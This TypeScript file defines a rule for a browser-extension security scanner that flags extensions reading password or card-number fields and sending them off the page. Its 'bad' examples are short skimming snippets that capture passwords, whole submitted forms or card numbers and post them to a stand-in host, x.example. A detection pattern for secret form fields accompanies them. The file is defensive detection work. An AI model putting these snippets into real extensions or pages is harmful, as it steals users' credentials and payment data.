import {
  calleeOf,
  callsNamed,
  constant,
  GUARD_SIZE,
  GuardKind,
  guardKind,
  guardTexts,
  nameOf,
  nameOfGlobal,
  objectOf,
  Op,
  opOf,
  readsNamed,
  type ScriptFacts,
  testedValue,
} from '../../facts/javascript/query.ts';
import type { SourceKind } from '../../taint/kinds.ts';
import { destinationOf } from '../../verdict/destinationOf.ts';
import { defineRule, type Hit } from '../../rule.ts';
import { checkScripts, contentExample, type Judged } from './checkScripts.ts';
import { listenersOf } from './listeners.ts';
import { backwardSlice } from '../../program/backwardSlice.ts';
import { runsInPages } from './places.ts';
import { leavesBy, messagesLeave } from './sendings.ts';
import { flowOut } from './flowOut.ts';
import { readsBetween } from './readsBetween.ts';
import { callsWithin } from '../../program/callsWithin.ts';
import { first } from '../../facts/first.ts';
import { say } from '../../../texts/say.ts';

const SECRET =
  /type\s*=\s*\\?["']?password|autocomplete\s*[*^~|]?=\s*\\?["']?cc-|name\s*[*^~|]?=\s*\\?["']?(card_?number|cvv|cvc|passw)|#(password|pass|card-?number|cvv)\b/i;

const ENTERED: ReadonlySet<SourceKind> = new Set<SourceKind>(['form-input']);

export const passwordFieldRead = defineRule({
  id: 'password-field-read',
  title: 'Reads passwords or card numbers from web pages',
  severity: 'high',
  confidence: 'medium',
  category: 'privacy',
  applies: 'extension',
  cwe: 'CWE-522',
  references: ['https://attack.mitre.org/techniques/T1056/'],
  why: 'Only a password manager has a reason to read these fields. Once sent to a server, they open the accounts of everyone who uses the extension.',
  remedy: 'Do not read password and card fields. A password manager keeps them encrypted on the device.',
  check: checkScripts(function* (judged) {
    if (!runsInPages(judged.facts, judged.file.path)) return;
    const fields = first(secretFields(judged.script), 50);
    const read = [...fieldsRead(judged, fields)];
    yield* read;
    if (read.length === 0) yield* formsCopied(judged, fields);
  }),
  examples: {
    bad: [
      contentExample(
        'const p = document.querySelector("input[type=password]"); p.addEventListener("change", () => { fetch("https://x.example/p", { method: "POST", body: JSON.stringify({ u: location.href, p: p.value }) }); });',
      ),
      contentExample(
        'document.addEventListener("submit", (e) => { const data = Object.fromEntries(new FormData(e.target)); fetch("https://x.example/f", { method: "POST", body: JSON.stringify(data) }); }, true);',
      ),
      contentExample(
        'document.querySelectorAll(\'input[type="password"]\').forEach((f) => f.addEventListener("blur", () => chrome.runtime.sendMessage({ type: "cred", value: f.value })));',
      ),
      contentExample(
        'const card = document.querySelector("[autocomplete=cc-number]"); setInterval(() => { navigator.sendBeacon("https://x.example/c", card.value); }, 1000);',
      ),
    ],
    good: [
      contentExample(
        '$(document).on("submit", "#reader-note", function () { chrome.storage.local.set({ note: $("#reader-text").val() }); fetch("https://x.example/n", { method: "POST", body: $("#reader-text").val() }); });',
      ),
      contentExample('document.querySelectorAll("input[type=password]").forEach((f) => { f.type = "text"; });'),
      contentExample(
        'const p = document.querySelector("input[type=password]"); if (p.value.length < 8) warn("too short");',
      ),
      contentExample(
        'const form = document.querySelector("#mine"); form.addEventListener("submit", (e) => { save(form.elements.name.value); });',
      ),
      contentExample(
        'const q = document.querySelector("input[type=search]"); fetch("https://x.example/s?q=" + q.value);',
      ),
    ],
  },
});

/** What is read of secret fields and leaves the page. */
function* fieldsRead({ script, facts, hit }: Judged, fields: readonly number[]): Iterable<Hit> {
  const read = new Set<number>();
  for (const value of fields.length === 0 ? [] : first(readsNamed(script, 'value'), 1000)) {
    const origins = backwardSlice(script, objectOf(script, value));
    if (fields.some((field) => origins.has(field))) read.add(value);
  }
  const out = leavesBy(script, read);
  const head = [...read][0];
  if (out === undefined || head === undefined) return;
  if (out.kind === 'network')
    yield hit(head, { severity: 'critical', confidence: 'high', message: say('sent-to', out.to) });
  // Password managers do this: it weighs where some part of the extension sends on what it is told.
  else
    yield hit(head, {
      severity: facts.whole(messagesLeave) ? 'medium' : 'low',
      message: out.kind === 'message' ? say('passed-to-background') : say('stored'),
    });
}

/** Every form that is sent is copied on its way. */
function* formsCopied({ script, facts, hit }: Judged, fields: readonly number[]): Iterable<Hit> {
  for (const listener of first(listenersOf(script, 'submit'))) {
    const fn = script.functions[listener.fn];
    if (fn === undefined || (!listener.everywhere && fields.length === 0)) continue;
    const out = flowOut(facts, script, ENTERED, fn, 'network');
    if (out === undefined) {
      if (listener.everywhere && leavesBy(script, valuesOfForms(script, listener.fn), ['message']) !== undefined)
        yield hit(listener.value, {
          severity: facts.whole(messagesLeave) ? 'high' : 'medium',
          message: say('forms-to-background'),
        });
      continue;
    }
    // To a server that the person set: the table of sendings weighs it.
    if (destinationOf(facts, out).of === 'person') continue;
    yield hit(listener.value, {
      severity: listener.everywhere ? 'critical' : 'high',
      message: out.sink.to === undefined ? say('forms-sent-server') : say('forms-sent-to', out.sink.to),
    });
  }
}

/** What a function reads of forms: their fields, one by one or all at once. */
function valuesOfForms(script: ScriptFacts, index: number): Set<number> {
  const fn = script.functions[index] as ScriptFacts['functions'][number];
  const values = readsBetween(script, fn.start, fn.end, new Set(['value', 'elements']));
  for (const call of callsWithin(script, index))
    if (call.isNew && opOf(script, call.callee) === Op.global && nameOfGlobal(script, call.callee) === 'FormData')
      values.add(call.value);
  for (const call of callsNamed(script, 'serialize', 'serializeArray'))
    if (call.pos >= fn.start && call.pos < fn.end) values.add(call.value);
  return values;
}

function secretFields(script: ScriptFacts): readonly number[] {
  const found = namedFields(script);
  // `inputs.filter((i) => i.type === 'password')`: what the inputs were taken from.
  let tested = 0;
  for (let at = 0; at < script.guards.length && tested < 50; at += GUARD_SIZE) {
    const value = testedValue(script, at);
    if (
      guardKind(script, at) !== GuardKind.equals ||
      opOf(script, value) !== Op.member ||
      nameOf(script, value) !== 'type'
    )
      continue;
    if (!guardTexts(script, at).some((text) => script.strings[text] === 'password')) continue;
    tested++;
    for (const one of backwardSlice(script, objectOf(script, value)))
      if (
        opOf(script, one) === Op.call &&
        /^(querySelectorAll|getElementsByTagName)$/.test(nameOf(script, calleeOf(script, one)))
      )
        found.push(one);
  }
  return found;
}

function namedFields(script: ScriptFacts): number[] {
  return callsNamed(
    script,
    'querySelector',
    'querySelectorAll',
    'closest',
    'find',
    '$',
    'jQuery',
    'getElementById',
    'matches',
  )
    .filter((call) => {
      const selector = constant(script, call.args[0] ?? 0);
      return (
        selector !== undefined && (SECRET.test(selector) || /^(password|passwd|card-?number|cvv)$/i.test(selector))
      );
    })
    .map((call) => call.value);
}
